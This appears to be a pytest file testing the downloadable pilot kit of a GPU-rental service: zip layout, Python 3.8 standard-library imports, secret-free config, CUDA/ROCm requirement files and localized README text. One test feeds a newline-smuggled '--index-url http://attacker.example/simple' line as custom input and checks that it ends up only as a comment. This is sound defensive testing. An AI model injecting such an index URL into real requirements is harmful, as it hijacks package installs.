"""What the customer downloads: the guide's layout, per language and per compute platform."""

import ast
import io
import json
import re
import sys
import zipfile

import pytest

from pilot.kit.pilot_folder import build_pilot_zip
from rental.models import Preparation

DOCUMENTS = [f"data/pilot/DOC-{number:02d}.txt" for number in range(1, 13)]
LAYOUT = [
    "",
    "config/",
    "data/",
    "data/pilot/",
    "kernodeck/",
    "runs/",
    "src/",
    "README.md",
    "requirements-rebuild.txt",
    "config/pilot.json",
    *DOCUMENTS,
    "check_pilot.py",
    "src/classify.py",
    "src/inputs.py",
    "src/messages.py",
    "src/rules.py",
    "src/run_folder.py",
    "kernodeck/train.py",
    "kernodeck/resume_test.py",
    "kernodeck/README.md",
    "runs/.keep",
]
SHIPPED_MODULES = {"classify", "inputs", "messages", "rules", "run_folder", "train"}


def entries(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def text_of(data: bytes, path: str, order) -> str:
    return entries(data)[f"gr-{order.pk:06d}-pilot/{path}"].decode("utf-8")


def flat(text: str) -> str:
    """Markdown or comments as one line of words: the guide's sentences survive wrapping."""
    text = re.sub(r"^# ?", "", text, flags=re.M)
    return " ".join(text.split())


@pytest.mark.parametrize("language", ["en", "it"])
def test_the_zip_holds_the_guides_layout_under_one_folder_named_after_the_order(
    h100_order, language
):
    data = build_pilot_zip(order=h100_order, language=language)

    top = f"gr-{h100_order.pk:06d}-pilot/"
    assert list(entries(data)) == [top + path for path in LAYOUT]
    assert entries(data)[top + "runs/.keep"].strip()


def test_the_same_order_gives_the_same_bytes_and_the_scripts_are_executable(h100_order):
    first = build_pilot_zip(order=h100_order, language="en")

    assert build_pilot_zip(order=h100_order, language="en") == first
    with zipfile.ZipFile(io.BytesIO(first)) as archive:
        modes = {
            info.filename.split("/", 1)[1]: info.external_attr >> 16 for info in archive.infolist()
        }
    for script in ("check_pilot.py", "src/classify.py", "kernodeck/resume_test.py"):
        assert modes[script] & 0o111, script
    assert not modes["config/pilot.json"] & 0o111


def test_the_language_is_the_customers_and_nothing_else_is_accepted(h100_order):
    assert build_pilot_zip(order=h100_order, language="it-IT") == build_pilot_zip(
        order=h100_order, language="it"
    )
    for wrong in ("fr", "", "italian"):
        with pytest.raises(ValueError, match="language must be one of"):
            build_pilot_zip(order=h100_order, language=wrong)


@pytest.mark.parametrize("language", ["en", "it"])
def test_every_shipped_python_file_is_python_38_and_standard_library_only(h100_order, language):
    files = entries(build_pilot_zip(order=h100_order, language=language))
    scripts = {name: body for name, body in files.items() if name.endswith(".py")}
    assert len(scripts) == 8

    for name, body in scripts.items():
        tree = ast.parse(body.decode("utf-8"), filename=name, feature_version=(3, 8))
        imported = set()
        for node in ast.walk(tree):
            if isinstance(node, ast.Import):
                imported |= {alias.name.split(".")[0] for alias in node.names}
            elif isinstance(node, ast.ImportFrom):
                imported.add((node.module or "").split(".")[0])
        outside = imported - set(sys.stdlib_module_names) - SHIPPED_MODULES
        assert not outside, f"{name} imports {outside}"
        # The customer's language is the scripts' default (--lang still overrides it).
        if b"DEFAULT_LANGUAGE =" in body:
            assert f'DEFAULT_LANGUAGE = "{language}"'.encode() in body, name


def test_config_holds_the_parameters_and_no_secret(h100_order, customer):
    data = build_pilot_zip(order=h100_order, language="en")
    config = json.loads(text_of(data, "config/pilot.json", h100_order))

    assert config["allowed_categories"] == ["invoice", "contract", "report", "letter"]
    assert (config["input_dir"], config["output_root"]) == ("data/pilot", "runs")
    assert config["expected_documents"] == 12
    assert config["expected_rejections"] == ["DOC-09"]
    assert config["order"] == h100_order.reference

    def keys(value):
        if isinstance(value, dict):
            for key, inner in value.items():
                yield key
                yield from keys(inner)
        elif isinstance(value, list):
            for inner in value:
                yield from keys(inner)

    secret = re.compile(r"pass|secret|token|api.?key|credential|private", re.I)
    assert not [key for key in keys(config) if secret.search(key)]
    # Nothing of the customer's account travels in the kit.
    for body in entries(data).values():
        assert customer.email.encode() not in body
        assert b"BEGIN OPENSSH PRIVATE KEY" not in body


def test_the_documents_are_twelve_identified_inputs_of_different_lengths_one_unreadable(
    h100_order,
):
    for language in ("en", "it"):
        files = entries(build_pilot_zip(order=h100_order, language=language))
        top = f"gr-{h100_order.pk:06d}-pilot/"
        documents = {path: files[top + path] for path in DOCUMENTS}
        sizes = sorted(len(body) for body in documents.values())
        assert len(set(sizes)) == 12
        assert sizes[0] < 300 and sizes[-1] > 2000
        unreadable = []
        for path, body in documents.items():
            try:
                body.decode("utf-8")
            except UnicodeDecodeError:
                unreadable.append(path)
        assert unreadable == ["data/pilot/DOC-09.txt"]


def test_the_documents_are_in_the_customers_language(h100_order):
    italian = text_of(build_pilot_zip(order=h100_order, language="it"), DOCUMENTS[0], h100_order)
    english = text_of(build_pilot_zip(order=h100_order, language="en"), DOCUMENTS[0], h100_order)

    assert italian.startswith("FATTURA")
    assert english.startswith("INVOICE")


def requirement_lines(text: str) -> list[str]:
    return [line for line in text.splitlines() if line and not line.startswith("#")]


def test_requirements_for_a_cuda_order_point_at_the_pytorch_cuda_index(h100_order):
    text = text_of(
        build_pilot_zip(order=h100_order, language="en"), "requirements-rebuild.txt", h100_order
    )

    lines = requirement_lines(text)
    assert lines[:2] == [
        "--index-url https://download.pytorch.org/whl/cu128",
        "--extra-index-url https://pypi.org/simple",
    ]
    assert lines[2].startswith("torch ")
    assert "rocm" not in "\n".join(lines)
    words = flat(text)
    assert "distinguishes the system (Linux, pip) and the compute platform" in words
    assert "copying a command from another machine is not a compatibility check" in words
    assert "sm_90 (H100 80 GB)" in words
    assert h100_order.reference in words


def test_requirements_for_a_rocm_order_point_at_the_pytorch_rocm_index(mi300x_order):
    text = text_of(
        build_pilot_zip(order=mi300x_order, language="it"),
        "requirements-rebuild.txt",
        mi300x_order,
    )

    lines = requirement_lines(text)
    assert lines[:2] == [
        "--index-url https://download.pytorch.org/whl/rocm6.4",
        "--extra-index-url https://pypi.org/simple",
    ]
    assert "/whl/cu" not in text
    words = flat(text)
    assert "Il selettore ufficiale PyTorch" in words
    assert (
        "copiare un comando da un'altra macchina non costituisce una verifica di compatibilità"
        in words
    )
    assert "gfx942 (MI300X 192 GB)" in words
    assert "build ROCm" in words


def test_a_custom_preparation_is_quoted_as_comments_never_as_requirements(
    catalogue, customer, place_order
):
    order = place_order(
        customer,
        catalogue["b200"],
        preparation=Preparation.CUSTOM,
        custom_preparation="flash-attn 2.7\r\n--index-url http://attacker.example/simple\nvllm",
    )
    text = text_of(build_pilot_zip(order=order, language="en"), "requirements-rebuild.txt", order)

    assert requirement_lines(text) == [
        "--index-url https://download.pytorch.org/whl/cu128",
        "--extra-index-url https://pypi.org/simple",
        requirement_lines(text)[2],
    ]
    assert "# --index-url http://attacker.example/simple" in text
    assert "# flash-attn 2.7" in text
    assert "sm_100 (B200 180 GB)" in flat(text)


GUIDE_IT = [
    "Un percorso verso la tua directory personale non è una procedura di trasferimento: "
    "sostituisci le supposizioni implicite con dei parametri e verifica i percorsi dalla "
    "cartella del progetto.",
    "variabili d'ambiente",
    "un file fuori dalla cartella",
    "Per i documenti indipendenti, la ripresa consiste piuttosto nell'identificare gli elementi "
    "completati e quelli da rielaborare.",
    "Copia i risultati e il loro bilancio in una posizione che controlli, poi rileggi questa "
    "copia.",
    "Non considerare un file presente nell'ambiente di calcolo come il tuo unico backup.",
    "Il mini-progetto Kernodeck dimostra un metodo su CPU; la tua applicazione deve ancora "
    "qualificare i propri stati, la precisione e i dati.",
    "una sottocartella nuova di `runs/`",
    "python3 src/classify.py --resume runs/prova-01",
    "python3 check_pilot.py runs/prova-01",
]
GUIDE_EN = [
    "A path to your home directory is not a transfer procedure: replace implicit assumptions "
    "with parameters and check the paths from the project folder.",
    "environment variables",
    "a file outside the folder",
    "For independent documents, resuming rather consists in identifying the items that are "
    "done and those to redo.",
    "Copy the results and their summary to a place you control, then re-read this copy.",
    "Do not treat a file present in the compute environment as your only backup.",
    "The Kernodeck mini-project demonstrates a method on CPU; your application must still "
    "qualify its own states, its precision and its data.",
    "a new subfolder of `runs/`",
    "python3 src/classify.py --resume runs/try-01",
    "python3 check_pilot.py runs/try-01",
]


@pytest.mark.parametrize(("language", "sentences"), [("it", GUIDE_IT), ("en", GUIDE_EN)])
def test_the_readme_carries_the_guides_wording_in_the_customers_language(
    h100_order, language, sentences
):
    data = build_pilot_zip(order=h100_order, language=language)
    readme = flat(text_of(data, "README.md", h100_order))

    for sentence in sentences:
        assert sentence in readme
    assert h100_order.reference in readme
    assert f"gr-{h100_order.pk:06d}-pilot" in readme
    assert "{{" not in readme
    assert "Kernodeck" in text_of(data, "kernodeck/README.md", h100_order)


def test_the_readme_opens_with_the_order_as_the_customer_confirmed_it(
    catalogue, customer, place_order, h100_order
):
    b200 = place_order(customer, catalogue["b200"], lots=1, duration_days=3)

    english = flat(
        text_of(build_pilot_zip(order=h100_order, language="en"), "README.md", h100_order)
    )
    italian = flat(text_of(build_pilot_zip(order=b200, language="it"), "README.md", b200))

    assert (
        f"Order {h100_order.reference}: H100 80 GB (CUDA), 2 lots, 2 cards in all, 7 days, "
        'preparation "Ubuntu".'
    ) in english
    assert (
        f"Ordine {b200.reference}: B200 180 GB (CUDA), 1 lotto, 2 schede in tutto, 3 giorni, "
        "preparazione «Ubuntu»."
    ) in italian
